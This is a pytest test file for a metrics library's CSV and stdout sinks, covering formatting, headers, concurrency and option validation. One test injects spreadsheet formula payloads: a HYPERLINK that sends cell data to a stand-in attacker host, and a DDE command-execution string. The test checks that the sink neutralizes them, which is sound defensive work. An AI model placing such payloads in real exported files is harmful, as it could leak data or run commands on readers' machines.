"""The csv_metrics and stdout_metrics sinks, driven directly with constructed records."""

from __future__ import annotations

import csv
import json
import threading

import pytest
from scripted_server import ScriptedServer, chat_body, json_reply
from test_summary import attempt

import cometkit
from cometkit import ATTEMPT_FIELDS, CALL_FIELDS, CallRecord, ClientContext, ConfigError
from cometkit.metrics_csv import parse_timestamp
from cometkit.options import validate_section
from cometkit.summary import AGGREGATED, Summary
from cometkit_plugins import csv_metrics, stdout_metrics
from cometkit_plugins.csv_metrics import CsvMetricsSink
from cometkit_plugins.stdout_metrics import StdoutMetricsSink

HEADER = ",".join(ATTEMPT_FIELDS)


def read_rows(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def call(**fields) -> CallRecord:
    values = dict(
        timestamp=1_714_564_800.0, request_id="ck-1", operation="chat", method="POST",
        route="/chat/completions", server_address="127.0.0.1", model="m1", attempts=2,
        status_code=200, error_type=None, outcome="ok", duration_s=1.25, input_tokens=4,
        output_tokens=2,
    )
    values.update(fields)
    return CallRecord(**values)


def context(**plugin_options) -> ClientContext:
    return ClientContext(plugin_options=plugin_options, concurrency=4,
                         base_url="http://127.0.0.1:1/v1", server_address="127.0.0.1",
                         timeout_s=(1.0, 1.0))


# -------------------------------------------------------------------------------------------
# csv_metrics
# -------------------------------------------------------------------------------------------


def test_columns_in_order_and_cells_formatted(tmp_path):
    path = tmp_path / "m.csv"
    sink = CsvMetricsSink(str(path))
    sink.record_attempt(attempt(
        timestamp=1_714_564_800.1234, request_id="ck-abc", attempt=2, model="gpt-4o",
        response_model="gpt-4o-2024", status_code=429, error_type="RateLimitError",
        outcome="retry", duration_s=0.1234567, ttfc_s=None, retry_delay_s=1.5, input_tokens=12,
        output_tokens=0, provider_request_id="req_9", queue_s=0.0200004))
    sink.close()
    assert path.read_text(encoding="utf-8").splitlines()[0] == HEADER
    header, row = read_rows(path)
    assert dict(zip(header, row)) == {
        "timestamp": "2024-05-01T12:00:00.123Z", "request_id": "ck-abc", "attempt": "2",
        "operation": "chat", "method": "POST", "route": "/chat/completions",
        "server_address": "127.0.0.1", "model": "gpt-4o", "response_model": "gpt-4o-2024",
        "status_code": "429", "error_type": "RateLimitError", "outcome": "retry",
        "duration_s": "0.123457", "ttfc_s": "", "retry_delay_s": "1.5", "input_tokens": "12",
        "output_tokens": "0", "provider_request_id": "req_9", "queue_s": "0.02",
    }


def test_header_written_once_across_reopen_and_append(tmp_path):
    path = tmp_path / "m.csv"
    for run in range(3):
        sink = CsvMetricsSink(str(path))
        sink.record_attempt(attempt(request_id=f"run{run}-a"))
        sink.record_attempt(attempt(request_id=f"run{run}-b"))
        sink.close()
    rows = read_rows(path)
    assert rows[0] == list(ATTEMPT_FIELDS)
    assert [row[1] for row in rows[1:]] == [f"run{r}-{x}" for r in range(3) for x in "ab"]
    assert sum(1 for row in rows if row == list(ATTEMPT_FIELDS)) == 1


def test_empty_existing_file_gets_the_header(tmp_path):
    path = tmp_path / "m.csv"
    path.write_text("")
    CsvMetricsSink(str(path)).close()
    assert path.read_text() == HEADER + "\n"


def test_foreign_header_is_refused_and_left_untouched(tmp_path):
    path = tmp_path / "m.csv"
    path.write_text("name,value\nx,1\n")
    with pytest.raises(ConfigError, match="not the expected header") as info:
        CsvMetricsSink(str(path))
    assert info.value.key == "plugins.csv_metrics.path"
    assert path.read_text() == "name,value\nx,1\n"


def test_unwritable_path_is_a_config_error(tmp_path):
    with pytest.raises(ConfigError, match="cannot write"):
        CsvMetricsSink(str(tmp_path / "missing-dir" / "m.csv"))


def test_line_cut_by_a_crash_stays_one_skipped_row(tmp_path):
    path = tmp_path / "m.csv"
    sink = CsvMetricsSink(str(path))
    sink.record_attempt(attempt(request_id="before"))
    sink.close()
    with open(path, "a", encoding="utf-8") as handle:
        handle.write("2024-05-01T12:00:00.000Z,ck-cut,1,ch")  # no newline: the crash
    sink = CsvMetricsSink(str(path))
    sink.record_attempt(attempt(request_id="after"))
    sink.close()
    rows = read_rows(path)
    assert [row[1] for row in rows[1:]] == ["before", "ck-cut", "after"]
    assert len(rows[-1]) == len(ATTEMPT_FIELDS)
    summary = Summary.from_csv(path)
    assert summary.skipped_rows == 1
    assert summary.rows()[-1]["calls"] == 2


def test_each_row_is_flushed_before_close(tmp_path):
    path = tmp_path / "m.csv"
    sink = CsvMetricsSink(str(path))
    try:
        for i in range(3):
            sink.record_attempt(attempt(request_id=f"r{i}"))
            assert len(read_rows(path)) == i + 2  # read through another handle
    finally:
        sink.close()


def test_64_threads_never_interleave_rows(tmp_path):
    path = tmp_path / "m.csv"
    sink = CsvMetricsSink(str(path))
    threads_n, rows_n = 64, 200
    start = threading.Barrier(threads_n)

    def work(thread: int) -> None:
        start.wait(timeout=30)
        for i in range(rows_n):
            sink.record_attempt(attempt(request_id=f"t{thread}-{i}", model=f"model,{thread}",
                                        error_type="line\nbreak" if i % 7 == 0 else None))

    threads = [threading.Thread(target=work, args=(n,)) for n in range(threads_n)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    sink.close()
    rows = read_rows(path)
    assert rows[0] == list(ATTEMPT_FIELDS)
    body = rows[1:]
    assert len(body) == threads_n * rows_n
    assert all(len(row) == len(ATTEMPT_FIELDS) for row in body)
    assert {row[1] for row in body} == {
        f"t{t}-{i}" for t in range(threads_n) for i in range(rows_n)}
    assert all(row[7] == "model," + row[1][1:].split("-")[0] for row in body)


def test_formula_cells_are_neutralized_but_numbers_are_not(tmp_path):
    path = tmp_path / "m.csv"
    sink = CsvMetricsSink(str(path))
    evil_model = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    sink.record_attempt(attempt(model=evil_model, error_type="+cmd|' /C calc'!A0",
                                provider_request_id="@SUM(1)", route="-2+3",
                                response_model="\tx", retry_delay_s=-0.5, status_code=-1,
                                outcome="error"))
    sink.close()
    header, row = read_rows(path)
    cells = dict(zip(header, row))
    assert cells["model"] == "'" + evil_model
    assert cells["error_type"] == "'+cmd|' /C calc'!A0"
    assert cells["provider_request_id"] == "'@SUM(1)"
    assert cells["route"] == "'-2+3"
    assert cells["response_model"] == "'\tx"
    assert cells["retry_delay_s"] == "-0.5"
    assert cells["status_code"] == "-1"
    # ... and the report reads the original text back
    assert Summary.from_csv(path).rows()[0]["model"] == evil_model


def test_numeric_columns_cannot_carry_text(tmp_path):
    sink = CsvMetricsSink(str(tmp_path / "m.csv"))
    try:
        with pytest.raises(ValueError):
            sink.record_attempt(attempt(status_code="=1+1"))
    finally:
        sink.close()
    assert read_rows(tmp_path / "m.csv") == [list(ATTEMPT_FIELDS)]


def test_calls_path_gets_call_records(tmp_path):
    sink = CsvMetricsSink(str(tmp_path / "a.csv"), calls_path=str(tmp_path / "c.csv"))
    sink.record_attempt(attempt())
    sink.record_call(call(model="=x"))
    sink.close()
    header, row = read_rows(tmp_path / "c.csv")
    assert header == list(CALL_FIELDS)
    cells = dict(zip(header, row))
    assert (cells["attempts"], cells["duration_s"], cells["model"]) == ("2", "1.25", "'=x")
    assert len(read_rows(tmp_path / "a.csv")) == 2


def test_calls_are_ignored_without_calls_path_and_paths_must_differ(tmp_path):
    path = tmp_path / "a.csv"
    sink = CsvMetricsSink(str(path))
    sink.record_call(call())
    sink.close()
    assert read_rows(path) == [list(ATTEMPT_FIELDS)]
    with pytest.raises(ConfigError, match="must differ"):
        CsvMetricsSink(str(path), calls_path=str(path))
    CsvMetricsSink(str(path)).close()  # the failed sink released the file


def test_two_sinks_on_one_file_share_it(tmp_path):
    path = tmp_path / "m.csv"
    first, second = CsvMetricsSink(str(path)), CsvMetricsSink(str(path))
    first.record_attempt(attempt(request_id="one"))
    first.close()
    second.record_attempt(attempt(request_id="two"))  # still open for the second sink
    second.close()
    rows = read_rows(path)
    assert rows[0] == list(ATTEMPT_FIELDS)
    assert [row[1] for row in rows[1:]] == ["one", "two"]


def test_closed_sink_refuses_records_and_close_is_idempotent(tmp_path):
    sink = CsvMetricsSink(str(tmp_path / "m.csv"))
    sink.close()
    sink.close()
    sink.flush()
    with pytest.raises(RuntimeError, match="closed"):
        sink.record_attempt(attempt())


def test_summary_from_csv_matches_the_live_summary(tmp_path):
    path = tmp_path / "m.csv"
    sink, live = CsvMetricsSink(str(path)), Summary()
    records = []
    for i in range(30):
        if i % 3 == 0:
            records.append(attempt(request_id=f"r{i}", status_code=429, outcome="retry",
                                   timestamp=100.0 + i, duration_s=0.01 * i,
                                   retry_delay_s=1.0))
        records.append(attempt(request_id=f"r{i}", attempt=2, timestamp=100.5 + i,
                               duration_s=0.02 * i + 0.001, input_tokens=i, output_tokens=2,
                               outcome="error" if i % 5 == 0 else "ok",
                               model="a" if i % 2 else "b"))
    for record in records:
        sink.record_attempt(record)
        live.add_attempt(record)
    sink.close()
    from_csv = Summary.from_csv(path)
    assert from_csv.skipped_rows == 0
    _assert_rows_close(from_csv, live)
    assert from_csv.format_table() == live.format_table()


def _assert_rows_close(left: Summary, right: Summary) -> None:
    """Equal but for the timestamps' millisecond rounding in the file."""
    assert len(left.rows()) == len(right.rows())
    for a, b in zip(left.rows(), right.rows()):
        assert a.keys() == b.keys()
        for key, value in a.items():
            if isinstance(value, float):
                assert value == pytest.approx(b[key], rel=1e-3, abs=1e-3), key
            else:
                assert value == b[key], key


def test_from_csv_rejects_a_foreign_file(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text("a,b\n1,2\n")
    with pytest.raises(ValueError, match="missing columns"):
        Summary.from_csv(path)


def test_timestamps_round_trip_through_the_file(tmp_path):
    path = tmp_path / "m.csv"
    sink = CsvMetricsSink(str(path))
    sink.record_attempt(attempt(timestamp=1_714_564_812.3456))
    sink.close()
    assert parse_timestamp(read_rows(path)[1][0]) == pytest.approx(1_714_564_812.346, abs=1e-6)


# -------------------------------------------------------------------------------------------
# Options and hooks
# -------------------------------------------------------------------------------------------


def test_csv_options_defaults_and_validation():
    options = csv_metrics.cometkit_plugin_spec().options
    assert validate_section(options, {}) == {"path": "cometkit-metrics.csv", "calls_path": None}
    assert validate_section(options, {"path": "x.csv", "calls_path": "c.csv"})["calls_path"] \
        == "c.csv"
    with pytest.raises(ConfigError, match="path"):
        validate_section(options, {"path": 3})
    with pytest.raises(ConfigError, match="Did you mean 'path'"):
        validate_section(options, {"paht": "x.csv"})
    assert csv_metrics.cometkit_plugin_spec().enabled_by_default is False


def test_stdout_options_defaults_and_validation():
    spec = stdout_metrics.cometkit_plugin_spec()
    assert validate_section(spec.options, {}) == {
        "format": "text", "summary": True, "stream": "stdout", "per_attempt": True}
    for bad in ({"format": "xml"}, {"stream": "file"}, {"summary": "yes"},
                {"per_attempt": 1}):
        with pytest.raises(ConfigError):
            validate_section(spec.options, bad)
    assert spec.enabled_by_default is False
    with pytest.raises(ValueError):
        StdoutMetricsSink(format="xml")
    with pytest.raises(ValueError):
        StdoutMetricsSink(stream="file")


def test_hooks_build_sinks_from_validated_options(tmp_path):
    path = str(tmp_path / "hook.csv")
    csv_options = validate_section(csv_metrics.cometkit_plugin_spec().options, {"path": path})
    out_options = validate_section(stdout_metrics.cometkit_plugin_spec().options,
                                   {"format": "json", "stream": "stderr"})
    ctx = context(csv_metrics=csv_options, stdout_metrics=out_options)
    sink = csv_metrics.cometkit_make_metrics_sink(ctx.for_plugin("csv_metrics"))
    assert isinstance(sink, CsvMetricsSink) and sink.path == path
    sink.close()
    out = stdout_metrics.cometkit_make_metrics_sink(ctx.for_plugin("stdout_metrics"))
    assert (out.format, out.stream, out.per_attempt) == ("json", "stderr", True)


# -------------------------------------------------------------------------------------------
# stdout_metrics
# -------------------------------------------------------------------------------------------


def test_text_lines_are_logfmt_with_missing_fields_left_out(capsys):
    sink = StdoutMetricsSink(summary=False)
    sink.record_attempt(attempt(request_id="ck-1", status_code=429, outcome="retry",
                                retry_delay_s=1.5, error_type="Rate limit\nhit",
                                timestamp=1_714_564_800.5))
    sink.close()
    out = capsys.readouterr().out
    assert out.count("\n") == 1
    assert out.startswith("timestamp=2024-05-01T12:00:00.500Z request_id=ck-1 attempt=1 ")
    assert ' error_type="Rate limit\\nhit" ' in out
    assert " status_code=429 " in out and " outcome=retry " in out
    assert out.endswith(" duration_s=0.1 retry_delay_s=1.5\n")
    assert "ttfc_s" not in out and "input_tokens" not in out


def test_json_lines_and_json_summary(capsys):
    sink = StdoutMetricsSink(format="json")
    sink.record_attempt(attempt(request_id="a", status_code=429, outcome="retry",
                                retry_delay_s=0.25))
    sink.record_attempt(attempt(request_id="a", attempt=2, duration_s=0.123456789,
                                input_tokens=5))
    sink.close()
    lines = capsys.readouterr().out.splitlines()
    first, second, summary = (json.loads(line) for line in lines)
    assert list(first) == list(ATTEMPT_FIELDS)
    assert first["timestamp"] == "2024-05-01T12:00:00.000Z"
    assert first["status_code"] == 429 and first["ttfc_s"] is None
    assert second["duration_s"] == 0.123457
    total = summary["summary"]["total"]
    assert (total["calls"], total["retries"], total["status_429"], total["input_tokens"]) == (
        1, 1, 1, 5)


def test_summary_table_at_close_once_and_on_the_chosen_stream(capsys):
    sink = StdoutMetricsSink(stream="stderr", per_attempt=False)
    records = [attempt(request_id="a", model="m1", duration_s=0.2),
               attempt(request_id="b", model="m2", status_code=429, outcome="error")]
    for record in records:
        sink.record_attempt(record)
    sink.record_call(call())
    sink.close()
    sink.close()
    captured = capsys.readouterr()
    assert captured.out == ""
    expected = Summary()
    expected.add_attempts(records)
    assert captured.err == expected.format_table()
    assert captured.err.splitlines()[-1].split()[:4] == [AGGREGATED, "2", "1", "1"]


def test_nothing_recorded_means_no_table(capsys):
    StdoutMetricsSink().close()
    assert capsys.readouterr().out == ""


def test_stdout_lines_do_not_interleave_across_threads(capsys):
    sink = StdoutMetricsSink(summary=False)

    def work(thread: int) -> None:
        for i in range(100):
            sink.record_attempt(attempt(request_id=f"t{thread}-{i}"))

    threads = [threading.Thread(target=work, args=(n,)) for n in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 1600
    assert all(line.startswith("timestamp=") and line.endswith("outcome=ok duration_s=0.1")
               for line in lines)


# -------------------------------------------------------------------------------------------
# Through a real client
# -------------------------------------------------------------------------------------------


def test_client_run_writes_csv_and_a_summary_equal_to_the_report(tmp_path, capsys,
                                                                monkeypatch):
    """Every attempt reaches the CSV, and the table printed at close is the table the report
    computes from that CSV."""
    monkeypatch.setenv("COMETKIT_LOAD_PLUGINS", "backoff,csv_metrics,stdout_metrics")
    counter = iter(range(10_000))
    lock = threading.Lock()

    def handler(seen):
        with lock:
            n = next(counter)
        if n % 4 == 0:
            return json_reply(429, {"error": {"message": "slow down", "type": "rate_limit"}},
                              **{"Retry-After": "0"})
        return json_reply(200, chat_body(model=seen.json()["model"] + "-snap"))

    path = tmp_path / "run.csv"
    config = {
        "allow_insecure_http": True,
        "concurrency": 8,
        "plugins": {
            "backoff": {"max_attempts": 3},
            "csv_metrics": {"path": str(path), "calls_path": str(tmp_path / "calls.csv")},
            "stdout_metrics": {"per_attempt": False},
        },
    }
    with ScriptedServer(handler) as server:
        with cometkit.Client("sk-test", server.base_url, config=config) as client:
            results = client.map(
                lambda i: client.chat.completions.create(
                    model=f"m{i % 2}", messages=[{"role": "user", "content": "hi"}]),
                range(40), return_exceptions=True)
            list(results)
        attempts_sent = server.count
    table = capsys.readouterr().out
    rows = read_rows(path)[1:]
    assert len(rows) == attempts_sent
    report = Summary.from_csv(path)
    assert table == report.format_table()
    total = report.rows()[-1]
    assert total["calls"] == 40 == len(read_rows(tmp_path / "calls.csv")) - 1
    assert total["attempts"] == attempts_sent
    assert total["status_429"] == sum(1 for row in rows if row[9] == "429") > 0
    assert total["retries"] == sum(1 for row in rows if row[11] == "retry")
    assert [row["model"] for row in report.rows()] == ["m0", "m1", AGGREGATED]


@pytest.mark.parametrize("option,fields", [("path", ATTEMPT_FIELDS), ("calls_path", CALL_FIELDS)])
def test_a_file_of_an_older_cometkit_is_refused_with_what_it_lacks(tmp_path, option, fields):
    """Columns are only added at the end: an older file's header is a prefix of today's."""
    older = ",".join(name for name in fields if name not in ("queue_s", "wire_s", "backoff_s"))
    path = tmp_path / "old.csv"
    path.write_text(older + "\n")
    paths = {"path": str(tmp_path / "new.csv"), option: str(path)}
    with pytest.raises(ConfigError, match="written by an older cometkit") as info:
        CsvMetricsSink(paths.pop("path"), **paths)
    missing = "queue_s" if option == "path" else "queue_s,wire_s,backoff_s"
    assert f"without the columns {missing} (cometkit report still reads it)" in str(info.value)
    assert info.value.key == f"plugins.csv_metrics.{option}"
    assert path.read_text() == older + "\n"
